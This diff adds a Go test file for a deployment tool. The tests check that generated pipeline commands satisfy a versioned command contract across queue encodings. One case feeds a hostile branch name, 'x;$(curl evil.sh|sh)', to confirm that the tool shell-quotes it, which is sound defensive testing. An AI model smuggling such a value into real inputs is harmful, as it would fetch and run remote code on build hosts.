@@ -0,0 +1,135 @@
+package main
+
+import (
+	"encoding/json"
+	"os"
+	"testing"
+	"time"
+
+	poppitv1 "github.com/its-the-vibe/VibeDeploy/api/poppit/v1"
+)
+
+// TestPoppitCommandContract checks that every pipeline VibeDeploy generates is a valid v1 Poppit command
+func TestPoppitCommandContract(t *testing.T) {
+	config := Config{BaseDir: "/app/repos", DefaultStepTimeout: 10 * time.Minute}
+	metadata := &PRMetadata{Repository: "its-the-vibe/VibeMerge", Branch: "feature/add-metadata", PRNumber: 42}
+	full := RepoConfig{
+		Timeouts:     map[string]Duration{"build": Duration(15 * time.Minute)},
+		Build:        &BuildConfig{Pull: true, CacheFrom: "ghcr.io/its-the-vibe/vibemerge:cache"},
+		Registry:     &RegistryConfig{Server: "ghcr.io", Username: "vibedeploy", PasswordSecret: "GHCR_TOKEN", Push: true, Images: []string{"ghcr.io/its-the-vibe/vibemerge:latest"}},
+		TLS:          &TLSConfig{Mode: TLSModeWildcard, Cert: "/certs/wildcard.crt", Key: "/certs/wildcard.key", Dir: "/app/certs"},
+		Provenance:   &ProvenanceConfig{Lockfiles: []string{"go.sum", "web/package-lock.json"}},
+		SecurityScan: &SecurityScanConfig{Scanner: ScannerTrivy, Severity: "high", SBOM: true},
+	}
+
+	for _, tc := range []struct {
+		name        string
+		workflow    string
+		repoConfig  RepoConfig
+		options     DeployOptions
+		certificate string
+		env         map[string]string
+		// metadata replaces the shared PR, and want is a command the pipeline must contain
+		metadata *PRMetadata
+		want     string
+	}{
+		{name: "deploy", workflow: WorkflowDeploy},
+		{name: "deploy with every option", workflow: WorkflowDeploy, repoConfig: full, options: DeployOptions{CleanBuild: true},
+			certificate: full.TLS.certificateCommand("alpha.example.com"),
+			env:         map[string]string{PortEnvVar: "8101", HostnameEnvVar: "alpha.example.com"}},
+		{name: "deploy of selected services", workflow: WorkflowDeploy, options: DeployOptions{Services: []string{"web", "worker"}}},
+		{name: "promotion", workflow: WorkflowDeploy, repoConfig: full,
+			options: DeployOptions{Environment: "staging", GitSHA: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b", PromotedFrom: newDeploymentID()},
+			env:     map[string]string{EnvironmentEnvVar: "staging"}},
+		{name: "promotion of pinned images", workflow: WorkflowDeploy, repoConfig: full,
+			options: DeployOptions{Environment: "prod", GitSHA: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b", PromotedFrom: newDeploymentID(),
+				Images: map[string]string{"web": "ghcr.io/its-the-vibe/vibemerge@sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"}},
+			env: imageEnv(map[string]string{"web": "ghcr.io/its-the-vibe/vibemerge@sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"})},
+		{name: "deploy with command templates", workflow: WorkflowDeploy, repoConfig: RepoConfig{Commands: &CommandTemplates{
+			Dir:   "/srv/{{.Repo}}",
+			Steps: []PipelineStepConfig{{Name: "build", Run: "make build BRANCH={{.Branch}}"}, {Name: "release", Run: "make release PR={{.PRNumber}}"}},
+		}}},
+		{name: "deploy with command templates of a hostile branch", workflow: WorkflowDeploy, repoConfig: RepoConfig{Commands: &CommandTemplates{
+			Steps: []PipelineStepConfig{{Name: "build", Run: "make build BRANCH={{.Branch}}"}},
+		}}, metadata: &PRMetadata{Repository: "its-the-vibe/VibeMerge", Branch: "x;$(curl evil.sh|sh)", PRNumber: 42},
+			want: "make build BRANCH='x;$(curl evil.sh|sh)'"},
+		{name: "restart", workflow: WorkflowRestart, repoConfig: full},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			pr := metadata
+			if tc.metadata != nil {
+				pr = tc.metadata
+			}
+			cmd := createPoppitCommand(tc.workflow, pr, config, tc.repoConfig, tc.options, tc.certificate, "C0123456789", "1766236581.981479", newDeploymentID())
+			cmd.Env = tc.env
+			assertPoppitCommand(t, cmd)
+			if tc.want != "" && !containsString(cmd.Commands, tc.want) {
+				t.Errorf("expected %q among %q", tc.want, cmd.Commands)
+			}
+		})
+	}
+
+	// API-triggered deployments have no Slack message, so the metadata carries empty strings
+	t.Run("without a Slack message", func(t *testing.T) {
+		assertPoppitCommand(t, createPoppitCommand(WorkflowDeploy, metadata, config, RepoConfig{}, DeployOptions{}, "", "", "", newDeploymentID()))
+	})
+
+	t.Run("diagnostics", func(t *testing.T) {
+		assertPoppitCommand(t, PoppitCommand{
+			Repo:     metadata.Repository,
+			Branch:   metadata.Branch,
+			Type:     VibeDeployType,
+			Dir:      config.BaseDir + "/" + metadata.Repository,
+			Commands: RepoConfig{}.diagnosticsCommands(),
+			Metadata: &CommandMetadata{Channel: "C0123456789", Ts: "1766236581.981479", Workflow: WorkflowDiagnostics},
+		})
+	})
+}
+
+// assertPoppitCommand round-trips a command through its payload in each queue encoding and the v1 contract
+func assertPoppitCommand(t *testing.T, cmd PoppitCommand) {
+	t.Helper()
+	for _, encoding := range []string{QueueEncodingJSON, QueueEncodingProtobuf} {
+		contentType, err := queueContentType(encoding)
+		if err != nil {
+			t.Fatal(err)
+		}
+		payload, err := poppitv1.EncodeCommand(&cmd, contentType)
+		if err != nil {
+			t.Fatalf("failed to marshal command as %s: %v", encoding, err)
+		}
+		decoded, err := poppitv1.DecodeCommand(payload)
+		if err != nil {
+			t.Fatalf("generated %s payload breaks the Poppit contract: %v\n%q", encoding, err, payload)
+		}
+		if decoded.Metadata == nil || decoded.Metadata.DeploymentID != cmd.Metadata.DeploymentID {
+			t.Errorf("metadata did not survive the %s round trip: %q", encoding, payload)
+		}
+	}
+}
+
+// TestCommandOutputContract checks that a conforming Poppit output is understood as the step it reports
+func TestCommandOutputContract(t *testing.T) {
+	data, err := os.ReadFile("api/poppit/v1/testdata/output.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := poppitv1.DecodeCommandOutput(data); err != nil {
+		t.Fatalf("output fixture breaks the Poppit contract: %v", err)
+	}
+
+	// VibeDeploy parses output leniently, so Poppit can add fields without breaking it
+	var output CommandOutput
+	if err := json.Unmarshal(data, &output); err != nil {
+		t.Fatalf("failed to parse output: %v", err)
+	}
+	if output.Type != VibeDeployType {
+		t.Errorf("expected type %s, got %s", VibeDeployType, output.Type)
+	}
+	if output.Metadata == nil || output.Metadata.DeploymentID == "" || output.Metadata.Channel == "" || output.Metadata.Ts == "" {
+		t.Errorf("output metadata can't be matched to a deployment: %+v", output.Metadata)
+	}
+	if !isCompletionCommand(output.Command) {
+		t.Errorf("%q should complete the deployment", output.Command)
+	}
+}